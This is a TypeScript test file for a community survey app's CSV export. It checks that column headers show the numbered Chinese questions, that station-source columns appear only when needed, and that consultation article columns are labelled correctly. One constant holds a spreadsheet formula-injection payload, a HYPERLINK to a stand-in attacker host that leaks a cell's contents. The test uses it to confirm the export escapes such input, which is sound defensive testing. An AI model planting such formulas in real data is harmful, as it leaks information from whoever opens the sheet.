import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import { asResident, type Client, type TestApp } from '../helpers/app.js'
import { consultationBody, surveyBody, surveyOffice } from '../helpers/surveys.js'

/** What a resident types into a box, hoping an office worker opens the sheet in Excel or WPS. */
const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'

/**
 * 问卷 → 导出答卷 as the organizer opens it in a spreadsheet: each question headed as respondents
 * read it ("1. 您是否经常去社区公园？"), never by its internal id; 来源 and 联络站 only when some answer
 * of the export came through a station's code (answers by the survey's own poster have neither,
 * and a column empty all the way down reads as lost data); a typed formula stays text.
 */
describe('survey answers sheet', () => {
  let app: TestApp
  let office: Client
  let create: (body: Record<string, unknown>) => Promise<{ id: string }>
  beforeEach(async () => ({ app, office, create } = await surveyOffice()))
  afterEach(() => app.close())

  async function sheet(id: string): Promise<string[][]> {
    const answer = await office.get(`/api/admin/surveys/${id}/responses.csv`)
    expect(answer.status).to.equal(200)
    return parse((answer.body as Buffer).subarray(3).toString('utf8')) as string[][]
  }
  async function answer(id: string, answers: Record<string, unknown>, via?: string) {
    const sent = await (await asResident(app)).post(`/api/mp/surveys/${id}/responses${via ? `?via=${via}` : ''}`, { answers })
    expect(sent.status, JSON.stringify(sent.body)).to.equal(201)
  }

  it('heads each question by its number and words, and leaves out 来源 and 联络站 when every answer came by the poster', async () => {
    const s = await create(surveyBody())
    await answer(s.id, { q1: 'o1', q3: 4, q4: EVIL, q5: 2 })
    await answer(s.id, { q1: 'o2', q3: 5 })

    const rows = await sheet(s.id)
    expect(rows[0]).to.deep.equal(['提交时间', '1. 您是否经常去社区公园？', '2. 希望增加哪些设施？', '3. 对现有绿化的满意度', '4. 其他建议', '5. 每周去几次？'])
    expect(rows.slice(1)).to.deep.equal([
      ['2026-11-23 10:00:00', '是', '', '4', `'${EVIL}`, '2'],
      ['2026-11-23 10:00:00', '否', '', '5', '', ''],
    ])
  })

  it('shows 来源 and 联络站 once an answer came through a station, the poster’s answers left blank there', async () => {
    const s = await create(surveyBody())
    await answer(s.id, { q1: 'o2', q3: 3 })
    await answer(s.id, { q1: 'o2', q3: 5 }, 'ST001')

    const rows = await sheet(s.id)
    expect(rows[0]!.slice(0, 4)).to.deep.equal(['提交时间', '来源', '联络站', '1. 您是否经常去社区公园？'])
    expect(rows.slice(1).map((r) => r.slice(1, 4))).to.deep.equal([
      ['', '', '否'],
      ['联络站二维码', '轻工街道代表联络站', '否'],
    ])
  })

  it('heads a consultation’s opinion columns by the articles’ own numbers', async () => {
    const s = await create(consultationBody())
    const sent = await (
      await asResident(app)
    ).post(`/api/mp/surveys/${s.id}/responses`, {
      answers: { q1: 'o1' },
      comments: [{ articleId: 'a2', text: '建议提高到百分之三十五' }],
    })
    expect(sent.status, JSON.stringify(sent.body)).to.equal(201)
    const rows = await sheet(s.id)
    expect(rows[0]).to.deep.equal([
      '提交时间',
      '1. 您是否支持制定本条例？',
      '第一条 意见',
      '第一条 采纳结果',
      '第一条 理由',
      '第十二条 意见',
      '第十二条 采纳结果',
      '第十二条 理由',
    ])
    expect(rows[1]!.slice(1)).to.deep.equal(['支持', '', '', '', '建议提高到百分之三十五', '待研究', ''])
  })
})
